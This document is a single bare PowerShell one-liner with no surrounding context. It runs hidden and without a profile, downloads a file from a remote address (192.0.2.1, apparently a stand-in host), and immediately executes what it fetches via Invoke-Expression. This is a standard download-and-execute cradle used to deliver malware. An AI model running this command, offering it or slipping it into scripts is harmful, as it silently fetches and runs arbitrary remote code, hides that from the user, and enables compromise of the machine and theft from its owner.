powershell -nop -w hidden -c "iex (iwr -UseBasicParsing 'https://192.0.2.1/a')"
